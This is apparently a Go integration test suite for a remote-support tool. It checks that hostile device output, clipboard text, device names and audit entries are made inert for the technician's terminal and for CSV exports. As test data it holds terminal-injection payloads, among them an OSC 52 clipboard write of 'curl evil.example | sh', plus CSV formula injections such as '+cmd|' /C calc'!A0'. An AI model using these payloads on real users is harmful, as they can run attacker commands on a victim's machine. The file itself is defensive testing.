package integration

import (
	"context"
	"crypto/ed25519"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tether-support/tether/internal/audit"
	"github.com/tether-support/tether/internal/protocol"
	"github.com/tether-support/tether/internal/transport"
)

// hostileOutput is what a device's shell prints in the terminal filter
// tests: sequences that act on the technician's machine mixed with drawing
// that must survive. It is a printf format for sh.
const hostileOutput = `printf 'BEGIN-MARK\n` +
	`\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007` + // OSC 52: set the clipboard to "curl evil.example | sh"
	`\033[6n\033[5n` + // DSR: cursor position and status reports
	`\033[c\033[>c` + // DA1, DA2
	`\033]2;;touch pwned\n\007\033[21t` + // a title with a control, then the title report
	`\033]8;;https://evil.example/\033\\click-here\033]8;;\033\\` + // OSC 8 hyperlink
	`\033P$qm\033\\` + // DECRQSS
	`\033]11;?\007` + // background colour query
	`\005` + // ENQ answerback
	`FAILED\r\033[1A\033[2K\033[32mOK\033[0m\n` + // a faked green OK over a line: drawing, allowed
	`\033]0;plain title\007END-MARK\n'`

// acting are the sequences in hostileOutput that act on the technician's
// machine; drawing are those that only draw.
var (
	acting = []string{"\x1b]52;", "\x1b[6n", "\x1b[5n", "\x1b[c", "\x1b[>c", "\x1b]2;;touch", "\x1b[21t",
		"\x1b]8;", "\x1bP", "\x1b]11;?", "\x05"}
	drawing = []string{"BEGIN-MARK", "\x1b[1A\x1b[2K\x1b[32mOK\x1b[0m", "click-here", "\x1b]0;plain title\a", "END-MARK"}
)

// checkFiltered asserts that out has the drawing of hostileOutput and, if
// filtered, none of its acting sequences, else all of them.
func checkFiltered(t *testing.T, what, out string, filtered bool) {
	t.Helper()
	for _, s := range drawing {
		if !strings.Contains(out, s) {
			t.Errorf("%s: output lacks the drawing %q:\n%q", what, s, out)
		}
	}
	for _, s := range acting {
		if strings.Contains(out, s) == filtered {
			t.Errorf("%s: acting sequence %q present=%v, want %v:\n%q", what, s, filtered, !filtered, out)
		}
	}
}

// TestSessionOutputIsFiltered runs a real agent whose shell prints clipboard
// writes, terminal queries, a title report, a hyperlink, DCS and a faked
// green OK: tech's output keeps the drawing and loses what acts on the
// technician's machine, unless --raw; a command's output piped away is
// passed byte for byte. The recordings of these sessions play back
// filtered the same way.
func TestSessionOutputIsFiltered(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	d := e.enroll("dev")
	e.runAgent(d, "exit 0")

	cases := []struct {
		name     string
		args     []string
		filtered bool
	}{
		{"pty session", []string{"connect", d.name, "-t", "--", "sh", "-c", hostileOutput}, true},
		{"pty session raw", []string{"connect", d.name, "--raw", "-t", "--", "sh", "-c", hostileOutput}, false},
		{"piped command", []string{"connect", d.name, "--", "sh", "-c", hostileOutput}, false},
	}
	for _, tc := range cases {
		r := e.techRun("", tc.args...)
		if r.code != 0 {
			t.Fatalf("%s: code %d stderr %q", tc.name, r.code, r.stderr)
		}
		checkFiltered(t, tc.name, r.stdout, tc.filtered)
	}

	t.Run("command on a terminal", func(t *testing.T) {
		// No -t, but tech's stdout and stderr are a terminal: both streams
		// are filtered.
		p := startPTY(t, e.dir, bin.tech, "--config", e.tech, "connect", d.name, "--", "sh", "-c", hostileOutput+" >&2")
		if code := p.exitCode(20 * time.Second); code != 0 {
			t.Fatalf("code %d", code)
		}
		checkFiltered(t, "stderr on a terminal", p.screen(), true)
	})

	t.Run("recordings play", func(t *testing.T) {
		var ids []string
		eventually(t, "four complete recordings", 10*time.Second, func() bool {
			ids = ids[:0]
			for id, st := range e.recordings() {
				if st == "complete" {
					ids = append(ids, id)
				}
			}
			return len(ids) == 4
		})
		for _, id := range ids {
			r := e.techRun("", "recordings", "play", id, "--identity", e.reviewer, "--speed", "100")
			if r.code != 0 {
				t.Fatalf("play %s: code %d stderr %q", id, r.code, r.stderr)
			}
			checkFiltered(t, "play", r.stdout, true)
			r = e.techRun("", "recordings", "play", id, "--identity", e.reviewer, "--speed", "100", "--raw")
			if r.code != 0 || !strings.Contains(r.stdout, "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a") {
				t.Fatalf("play --raw %s: code %d, OSC 52 missing from %q", id, r.code, r.stdout)
			}
		}
	})
}

// noActing fails if s holds an escape, a C1 introducer, BEL or a raw bidi
// control: what a peer sent must reach the terminal inert.
func noActing(t *testing.T, what, s string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\a", "\u009b", "\u009d", "\u202E", "\x05"} {
		if strings.Contains(s, bad) {
			t.Errorf("%s: %q reached the terminal in %q", what, bad, s)
		}
	}
}

// TestHostileDeviceTextIsInert points tech at hostile devices that put
// escape sequences, OSC 52 and bidi characters into everything tech prints:
// error texts, clipboard contents, end reasons and refusals.
func TestHostileDeviceTextIsInert(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	const osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
	fakeOK := "\x1b[1A\x1b[2K\x1b[32mOK\x1b[0m"

	clipErrors := []struct{ name, text string }{
		{"clip-err-osc52", osc52 + "denied"},
		{"clip-err-fake-ok", "failed" + fakeOK},
		{"clip-err-c1", "x\u009b6n\u009d52;c;QQ==\u009cy"},
		{"clip-err-bidi", "no access to \u202Etxt.exe"},
		{"clip-err-dcs", "\x1bP$qm\x1b\\\x1b[21tz"},
	}
	for _, ce := range clipErrors {
		hd := e.hostileDevice(t, ce.name, func(ctx context.Context, hs *hostileSession) {
			if _, err := hs.Clipboard(ctx); err == nil {
				hs.ClipboardReply(ctx, nil, ce.text)
			}
		})
		r := e.techRun("", "clipboard", "get", hd.name)
		if r.code == 0 || !strings.Contains(r.stderr, "device: ") {
			t.Errorf("%s: code %d stderr %q, want a device error", ce.name, r.code, r.stderr)
		}
		noActing(t, ce.name, r.stderr)
	}

	clip := "echo hi\n" + osc52 + "\x1b[2J\u202Eexe.txt\x1b]8;;http://evil/\x1b\\link\r\n"
	hdClip := e.hostileDevice(t, "clip-text", func(ctx context.Context, hs *hostileSession) {
		if _, err := hs.Clipboard(ctx); err == nil {
			hs.ClipboardReply(ctx, []byte(clip), "")
		}
	})
	t.Run("clipboard to a pipe is raw", func(t *testing.T) {
		r := e.techRun("", "clipboard", "get", hdClip.name)
		if r.code != 0 || r.stdout != clip {
			t.Fatalf("code %d stdout %q, want the bytes %q", r.code, r.stdout, clip)
		}
	})
	t.Run("clipboard to a terminal is inert", func(t *testing.T) {
		p := startPTY(t, e.dir, bin.tech, "--config", e.tech, "clipboard", "get", hdClip.name)
		if code := p.exitCode(20 * time.Second); code != 0 {
			t.Fatalf("code %d", code)
		}
		out := p.screen()
		noActing(t, "clipboard on a terminal", out)
		if !strings.Contains(out, "echo hi") || !strings.Contains(out, "<U+202E>exe.txt") || !strings.Contains(out, "link") {
			t.Errorf("clipboard on a terminal lost its text: %q", out)
		}
	})

	ends := []struct{ name, reason string }{
		{"end-osc52", osc52 + "bye"},
		{"end-fake-ok", "crashed" + fakeOK},
		{"end-bidi", "done \u202Egnp.exe"},
		{"end-c1", "x\u009b21t\u0090$qm\u009c"},
	}
	for _, en := range ends {
		hd := e.hostileDevice(t, en.name, func(ctx context.Context, hs *hostileSession) {
			if _, err := hs.Start(ctx); err == nil {
				hs.Stdout(ctx, []byte("started\n"))
				hs.End(ctx, en.reason)
			}
		})
		r := e.techRun("", "connect", hd.name, "--", "true")
		if r.code == 0 || !strings.Contains(r.stderr, "session ended") {
			t.Errorf("%s: code %d stderr %q, want the session ended", en.name, r.code, r.stderr)
		}
		noActing(t, en.name, r.stderr)
	}

	refusals := []struct{ name, why string }{
		{"refuse-osc52", osc52 + "no"},
		{"refuse-bidi", "busy \u202Eenod"},
		{"refuse-fake-ok", "no" + fakeOK},
	}
	for _, rf := range refusals {
		hd := e.hostileDeviceWith(t, rf.name, hostileOptions{Consent: func(protocol.SessionInfo) protocol.Consent {
			return protocol.Consent{Granted: false, Why: rf.why}
		}}, func(context.Context, *hostileSession) {})
		r := e.techRun("", "connect", hd.name, "--", "true")
		if r.code == 0 || !strings.Contains(r.stderr, "did not consent") {
			t.Errorf("%s: code %d stderr %q, want a refusal", rf.name, r.code, r.stderr)
		}
		noActing(t, rf.name, r.stderr)
	}

	t.Run("device output on a terminal", func(t *testing.T) {
		hd := e.hostileDevice(t, "out-osc52", func(ctx context.Context, hs *hostileSession) {
			if _, err := hs.Start(ctx); err == nil {
				hs.Stdout(ctx, []byte("out "+osc52[:9]))
				hs.Stdout(ctx, []byte(osc52[9:]+fakeOK+"\n"))
				hs.Stderr(ctx, []byte("err \x1b[6n\x1b]52;c;?\a\x1b[21tdone\n"))
				hs.Exit(ctx, 0)
			}
		})
		p := startPTY(t, e.dir, bin.tech, "--config", e.tech, "connect", hd.name, "--", "true")
		if code := p.exitCode(20 * time.Second); code != 0 {
			t.Fatalf("code %d", code)
		}
		out := p.screen()
		for _, bad := range []string{"\x1b]52", "\x1b[6n", "\x1b[21t"} {
			if strings.Contains(out, bad) {
				t.Errorf("%q reached the terminal: %q", bad, out)
			}
		}
		if !strings.Contains(out, fakeOK) || !strings.Contains(out, "err done") {
			t.Errorf("the drawing was lost: %q", out)
		}
	})
}

// TestAuditExportNeutralisesHostileEntries puts escape sequences and
// spreadsheet formulas into the audit log through failed sign-ins and
// enrollments, and checks the CSV export shows them as inert text and the
// JSONL export escapes them and still verifies.
func TestAuditExportNeutralisesHostileEntries(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	users := []string{
		"=HYPERLINK(\"http://evil.example\",\"x\")",
		"+cmd|' /C calc'!A0",
		"-2+3\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a",
		"@SUM(1+1)\x1b[2J",
		"\x1b[1A\x1b[2K\x1b[32mOK\x1b[0m",
		"bob\u202Etxt.exe",
	}
	// Failed sign-ins keep only a keyed digest of an unknown name, so the
	// hostile text reaches the audit log through refused enrollments,
	// whose device name is recorded as sent.
	other := filepath.Join(e.dir, "other-tech")
	for _, u := range users[:1] { // at most 8 anonymous failures per source are written in full
		r := run(t, e.dir, "wrong-password\n", bin.tech, "--config", other, "login", "--relay", e.url, "--ca-fingerprint", e.fp,
			"--user", u, "--password-stdin")
		if r.code == 0 {
			t.Fatalf("login as %q succeeded", u)
		}
		noActing(t, "login error", r.stderr)
	}
	tok := strings.TrimSpace(e.techRun("", "devices", "enroll-token").stdout)
	for i, name := range append(users, "=1+1\x1b]52;c;QQ==\a") {
		r := run(t, e.dir, "", bin.agent, "--config", filepath.Join(e.dir, fmt.Sprintf("bad-agent-%d", i)), "enroll", "--relay", e.url, "--token", tok,
			"--name", name)
		if r.code == 0 {
			t.Fatalf("enrolling a device named %q succeeded", name)
		}
		noActing(t, "enroll error", r.stderr)
	}

	csvOut := e.techRun("", "audit", "export", "--format", "csv")
	if csvOut.code != 0 {
		t.Fatalf("audit export csv: %s", csvOut.stderr)
	}
	noActing(t, "csv export", csvOut.stdout)
	for _, want := range []string{`'=HYPERLINK(""http://evil.example"",""x"")`, `'+cmd|' /C calc'!A0`,
		`'-2+3\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`, `'@SUM(1+1)\x1b[2J`, `\x1b[1A\x1b[2K\x1b[32mOK\x1b[0m`,
		`bob<U+202E>txt.exe`, `'=1+1\x1b]52;c;QQ==\x07`} {
		if !strings.Contains(csvOut.stdout, want) {
			t.Errorf("csv export lacks %q:\n%s", want, csvOut.stdout)
		}
	}
	for _, line := range strings.Split(csvOut.stdout, "\n") {
		for _, cell := range strings.Split(line, ",") {
			if cell = strings.TrimPrefix(cell, `"`); cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("csv cell starts with a formula character: %q", cell)
			}
		}
	}

	jsonl := e.techRun("", "audit", "export")
	if jsonl.code != 0 {
		t.Fatalf("audit export: %s", jsonl.stderr)
	}
	noActing(t, "jsonl export", jsonl.stdout)
	if !strings.Contains(jsonl.stdout, `bob\u202etxt.exe`) || !strings.Contains(jsonl.stdout, `\u001b]52;c;`) {
		t.Errorf("jsonl export lacks the escaped entries:\n%s", jsonl.stdout)
	}
	if err := audit.VerifyExport(strings.NewReader(jsonl.stdout)); err != nil {
		t.Errorf("the escaped export does not verify: %v", err)
	}
}

// TestHostileJoinerNameIsInert joins attended sessions with device names
// full of escape sequences and bidi characters (the name an attended device
// reports is its own choice) and checks that session and recording
// listings show them inert.
func TestHostileJoinerNameIsInert(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	names := []string{
		"pc\u202Eexe.txt",
		"pc\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a",
		"pc\x1b[1A\x1b[2K\x1b[32mOK\x1b[0m",
		"pc\u009b6n\u200B",
	}
	for _, name := range names {
		tech := start(t, e.dir, nil, bin.tech, "--config", e.tech, "session", "new")
		code := joinCode(t, tech)
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		c, err := transport.Dial(ctx, transport.Endpoint{URL: e.url, Pin: e.fp}, protocol.PathAgentJoin)
		if err != nil {
			cancel()
			t.Fatalf("join: %v", err)
		}
		pub, _, _ := ed25519.GenerateKey(nil)
		if err := c.WriteControl(ctx, &protocol.Control{Type: protocol.CtlJoin, Code: code, PublicKey: pub, Name: name}); err != nil {
			t.Fatalf("join: %v", err)
		}
		eventually(t, "the joined session to be listed", 10*time.Second, func() bool {
			return strings.Contains(e.techRun("", "sessions", "list").stdout, "attended:pc")
		})
		c.CloseNow()
		cancel()
		tech.kill9()
	}
	for _, args := range [][]string{{"sessions", "list"}, {"recordings", "list"}} {
		r := e.techRun("", args...)
		if r.code != 0 || strings.Count(r.stdout, "attended:pc") != len(names) {
			t.Fatalf("%v: code %d stdout %q stderr %q", args, r.code, r.stdout, r.stderr)
		}
		noActing(t, strings.Join(args, " "), r.stdout)
		if !strings.Contains(r.stdout, "attended:pc<U+202E>exe.txt") {
			t.Errorf("%v does not show the bidi control as a marker: %q", args, r.stdout)
		}
	}
	var ids []struct{ ID string }
	r := e.techRun("", "sessions", "list", "--json")
	if err := json.Unmarshal([]byte(r.stdout), &ids); err != nil || len(ids) != len(names) {
		t.Fatalf("sessions list --json: %v %q", err, r.stdout)
	}
	for _, s := range ids {
		r := e.techRun("", "sessions", "show", s.ID)
		if r.code != 0 || !strings.Contains(r.stdout, "attended:pc") {
			t.Fatalf("sessions show %s: code %d %q %q", s.ID, r.code, r.stdout, r.stderr)
		}
		noActing(t, "sessions show", r.stdout)
	}
}
